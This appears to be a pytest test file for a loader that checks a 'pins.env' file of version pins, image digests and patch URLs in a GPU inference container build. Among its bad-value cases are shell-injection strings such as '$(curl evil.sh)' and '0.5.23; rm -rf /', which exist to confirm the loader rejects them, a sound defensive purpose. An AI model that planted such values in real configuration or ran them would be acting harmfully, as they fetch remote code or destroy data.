"""pins.env: the shipped file passes; every kind of bad input is one line naming line and fix."""

from __future__ import annotations

from pathlib import Path

import pytest

from epstack.errors import BadInput
from epstack.pins.load import load_pins
from tests.conftest import PINS, pins_variant


def line_of(path: Path, key: str) -> int:
    for number, line in enumerate(path.read_text().splitlines(), start=1):
        if line.startswith(f"{key}="):
            return number
    raise AssertionError(f"{key} not in {path}")


def test_shipped_pins_are_valid() -> None:
    pins = load_pins(PINS)
    assert pins.default_target in pins.targets
    assert pins.targets == ("hopper-efa", "hopper-ib", "blackwell-efa", "blackwell-ib")
    assert len(pins.deepep_ref) == 40


# (key, bad value, words the message must contain)
BAD_VALUES = [
    ("NCCL_VERSION", "2.28.9", ["2.30.4", "DeepEP V2"]),
    ("NCCL_VERSION", ">=2.30.7", ["range", "exact"]),
    ("NCCL_VERSION", "~=2.30.7", ["range"]),
    ("NCCL_VERSION", "2.30.*", ["range"]),
    ("TORCH_VERSION", "2.14.1+cu130", ["local tag", "2.14.1"]),
    ("TORCH_CUDA_TAG", "cu128", ["CUDA 12", "CUDA 13"]),
    ("ARCH_HOPPER", "9.0a,5.0", ["arch 5.0 was dropped after CUDA 12.9", "CUDA_VERSION is 13.0.3"]),
    ("ARCH_BLACKWELL", "sm100", ["not a GPU architecture", "10.0a"]),
    ("DEEPEP_REF", "main", ["branch", "40-hex"]),
    ("DEEPEP_REF", "d4f41e4", ["short hash", "40-hex"]),
    ("GDRCOPY_REF", "v2.5.2", ["branch or tag", "40-hex"]),
    ("CUDA_DEVEL_IMAGE", "nvidia/cuda:13.0.3-devel-ubuntu24.04", ["no digest", "@sha256"]),
    ("CUDA_RUNTIME_IMAGE", "nvidia/cuda:13.0.3-runtime-ubuntu24.04@sha256:abc", ["sha256:<64"]),
    (
        "CUDA_DEVEL_IMAGE",
        "nvidia/cuda:12.8.1-devel-ubuntu24.04@sha256:" + "0" * 64,
        ["12.8.1-devel-ubuntu24.04 is not CUDA 13.0.3"],
    ),
    ("SGLANG_VERSION", "$(curl evil.sh)", ["shell syntax", "'$'"]),
    ("SGLANG_VERSION", "`id`", ["shell syntax"]),
    ("SGLANG_VERSION", "0.5.23; rm -rf /", ["shell syntax", "';'"]),
    ("SGLANG_VERSION", "0.5.23 > /tmp/x", ["shell syntax"]),
    ("SGLANG_VERSION", "0.5.23 | tee", ["shell syntax"]),
    ("SGLANG_VERSION", '"0.5.23"', ["quoted value", "SGLANG_VERSION=0.5.23"]),
    ("DEFAULT_TARGET", "hopper-roce", ["not a target", "hopper-efa"]),
    ("AWS_OFI_NCCL_VERSION", "1.17.3", ["GIN", "1.21.0"]),
    ("FABRICS", "efa,roce", ["'roce' is not a fabric"]),
    ("UBUNTU_SNAPSHOT", "2026-11-15", ["20261115T000000Z"]),
    # Digits that are not ASCII: Python's \d takes them, a shell, an image tag or pip does not.
    ("PYTHON_VERSION", "3.\u0661\u0662", ["is not of the form 3.12"]),
    ("TORCH_CUDA_TAG", "cu\u0661\u0663\u0660", ["is not of the form cu130"]),
    ("UBUNTU_SNAPSHOT", "\u0662\u0660\u0662\u0666\u0661\u0661\u0661\u0665T000000Z", ["20261115T000000Z"]),
    ("ARCH_HOPPER", "\u0669.0a", ["not a GPU architecture"]),
    ("NCCL_VERSION", "2.\u0663\u0660.7", ["not a version"]),
    ("EFA_GIN_TYPE", "3", ["not a GIN type for AWS EFA", "2, 5"]),
    ("IB_GIN_TYPE", "5", ["not a GIN type for InfiniBand/RoCE", "2, 3"]),
    ("EFA_GIN_TYPE", "5", ["requires GIN strong and VA signals, which EFA-GDA", "EFA_GIN_TYPE=2"]),
    ("DEEPEP_FMT_REF", "11.0.2", ["branch or tag", "40-hex"]),
    ("DEEPEP_PATCHES_EFA", "https://x/a.patch", ["not a pinned patch", "#sha256=<64 hex>"]),
    ("DEEPEP_PATCHES_EFA", "http://x/a.patch#sha256=" + "0" * 64, ["not a pinned patch"]),
    ("DEEPEP_PATCHES_EFA", "https://x/a.patch#sha256=" + "0" * 64 + ",", ["'' is not a pinned patch"]),
    (
        "DEEPEP_PATCHES_EFA",
        ",".join(f"https://{host}/a.patch#sha256=" + "0" * 64 for host in ("x", "y")),
        ["two patches named 'a.patch'"],
    ),
]


@pytest.mark.parametrize(("key", "value", "words"), BAD_VALUES, ids=[f"{k}={v}" for k, v, _ in BAD_VALUES])
def test_bad_value_names_file_line_and_fix(tmp_path: Path, key: str, value: str, words: list[str]) -> None:
    path = pins_variant(tmp_path, **{key: value})
    with pytest.raises(BadInput) as caught:
        load_pins(path)
    message = str(caught.value)
    assert message.startswith(f"{path}:{line_of(path, key)}: ")
    assert all(line.startswith(f"{path}:") and "; fix: " in line for line in message.splitlines())
    for word in words:
        assert word in message


LONG = 100_000
LONG_VALUES = [
    ("SGLANG_VERSION", "x" * LONG),
    ("SGLANG_VERSION", "00" + ".1" * (LONG // 2)),  # the fix, written canonically, is as long
    ("NCCL_VERSION", "2.30." + "9" * LONG),  # more digits than Python turns into an int
    ("DEEPEP_REF", "a" * LONG),  # a branch name: the fix names `git rev-parse` of it
    ("IMAGE_REPOSITORY", "r" * LONG),
    ("CUDA_DEVEL_IMAGE", "n" * LONG),
    ("UBUNTU_SNAPSHOT", "2" * LONG),
    ("ARCH_HOPPER", "9" * LONG),
    ("FABRICS", ",".join(["i" * LONG] * 2)),  # the member named twice
    ("DEEPEP_PATCHES_EFA", "h" * LONG),
]


@pytest.mark.parametrize(("key", "value"), LONG_VALUES, ids=[f"{k}={v[:8]}..." for k, v in LONG_VALUES])
def test_a_100_kb_value_is_cut_in_its_one_line_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, value: str
) -> None:
    pins_variant(tmp_path, **{key: value})
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadInput) as caught:
        load_pins(Path("pins.env"))
    (line,) = str(caught.value).splitlines()
    assert line.startswith(f"pins.env:{line_of(tmp_path / 'pins.env', key)}: {key}") and "; fix: " in line
    assert f"'... ({len(value)} chars)" in line and len(line) < 300, line


def test_a_100_kb_line_is_cut_in_its_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path, "y" * LONG + "\n")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadInput) as caught:
        load_pins(Path("pins.env"))
    (line,) = str(caught.value).splitlines()
    assert f"not a KEY=VALUE line: '{'y' * 60}'... ({LONG} chars); fix: " in line and len(line) < 300


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "pins.env"
    path.write_text(PINS.read_text() + text)
    return path


def test_unknown_key_points_at_its_line(tmp_path: Path) -> None:
    path = write(tmp_path, "SGLANG_VERISON=0.5.23\n")
    last = len(path.read_text().splitlines())
    with pytest.raises(BadInput) as caught:
        load_pins(path)
    assert str(caught.value).startswith(f"{path}:{last}: unknown key SGLANG_VERISON")
    assert "did you mean SGLANG_VERSION?" in str(caught.value)


def test_duplicate_key_names_both_lines(tmp_path: Path) -> None:
    path = write(tmp_path, "NCCL_VERSION=2.30.7\n")
    first = line_of(PINS, "NCCL_VERSION")
    last = len(path.read_text().splitlines())
    with pytest.raises(BadInput, match=rf":{last}: duplicate key NCCL_VERSION \(first set on line {first}\)"):
        load_pins(path)


def test_missing_key(tmp_path: Path) -> None:
    path = pins_variant(tmp_path, NVSHMEM_VERSION="")
    with pytest.raises(BadInput, match=r"missing key NVSHMEM_VERSION; fix: add a line NVSHMEM_VERSION="):
        load_pins(path)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("export NCCL_X=1", "'export'"),
        ("nccl_version=2.30.7", "unknown key nccl_version; fix: did you mean NCCL_VERSION?"),
        ("NCCL VERSION=2.30.7", "not a KEY=VALUE line"),
        ("JUST_A_KEY", "not a KEY=VALUE line"),
        ("EMPTY=", "has no value"),
    ],
)
def test_malformed_lines(tmp_path: Path, line: str, words: str) -> None:
    path = write(tmp_path, line + "\n")
    last = len(path.read_text().splitlines())
    with pytest.raises(BadInput) as caught:
        load_pins(path)
    assert str(caught.value).startswith(f"{path}:{last}: ")
    assert words in str(caught.value)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=r"absent\.env: no such file; fix: pass the path of a pins file"):
        load_pins(tmp_path / "absent.env")


def test_inline_comments_and_blank_lines_are_ignored(tmp_path: Path) -> None:
    path = pins_variant(tmp_path, SGLANG_VERSION="0.5.22   # older release for a canary")
    assert load_pins(path).sglang_version == "0.5.22"


def test_layer_tags_move_only_with_their_own_pins(tmp_path: Path) -> None:
    before = load_pins(PINS)
    after = load_pins(pins_variant(tmp_path, SGLANG_VERSION="0.5.22"))
    for target in before.targets:
        assert before.image_tag("base", target) == after.image_tag("base", target)
        assert before.image_tag("deepep", target) == after.image_tag("deepep", target)
        assert before.image_tag("sglang", target) != after.image_tag("sglang", target)
    assert after.image_tag("sglang", "hopper-efa").startswith(
        "sglang-0.5.22-deepep-d4f41e4-cu13.0-hopper-efa-"
    )


def test_nccl_pin_moves_every_layer(tmp_path: Path) -> None:
    before = load_pins(PINS)
    after = load_pins(pins_variant(tmp_path, NCCL_VERSION="2.32.3"))
    for layer in ("base", "deepep", "sglang"):
        assert before.image_tag(layer, "hopper-ib") != after.image_tag(layer, "hopper-ib")


def test_efa_pins_do_not_touch_ib_images(tmp_path: Path) -> None:
    before = load_pins(PINS)
    after = load_pins(pins_variant(tmp_path, EFA_INSTALLER_VERSION="1.49.0"))
    assert before.image_tag("base", "hopper-ib") == after.image_tag("base", "hopper-ib")
    assert before.image_tag("base", "hopper-efa") != after.image_tag("base", "hopper-efa")


def test_efa_gda_with_a_new_enough_nccl_still_needs_a_deepep_that_allows_it(tmp_path: Path) -> None:
    """NCCL 2.31.2 knows EFA-GDA, but DeepEP d4f41e4 asks for the GIN signals it lacks."""
    bad = pins_variant(tmp_path, EFA_GIN_TYPE="5", NCCL_VERSION="2.31.2")
    with pytest.raises(BadInput, match="requires GIN strong and VA signals"):
        load_pins(bad)


def test_the_efa_proxy_below_the_guides_floor_is_a_caveat(tmp_path: Path) -> None:
    below = load_pins(pins_variant(tmp_path, NCCL_VERSION="2.30.7")).caveats
    assert "with NCCL 2.30.7, below NCCL 2.31.2 (aws-ofi-nccl 1.21" in below[0]
    assert load_pins(PINS).caveats == (), "the shipped NCCL is at or above the GIN guide's floor"
    assert load_pins(pins_variant(tmp_path, NCCL_VERSION="2.31.2")).caveats == ()
    assert load_pins(pins_variant(tmp_path, FABRICS="ib", DEFAULT_TARGET="hopper-ib")).caveats == ()


def test_a_gdaki_only_patch_on_a_proxy_fabric_names_the_patch_line(tmp_path: Path) -> None:
    path = pins_variant(tmp_path, IB_GIN_TYPE="2")
    with pytest.raises(
        BadInput, match=f"^{path}:{line_of(path, 'DEEPEP_PATCHES_IB')}: vLLM's GIN barrier patch"
    ):
        load_pins(path)
    assert load_pins(pins_variant(tmp_path, IB_GIN_TYPE="2", DEEPEP_PATCHES_IB="none")).ib_gin_type == "2"
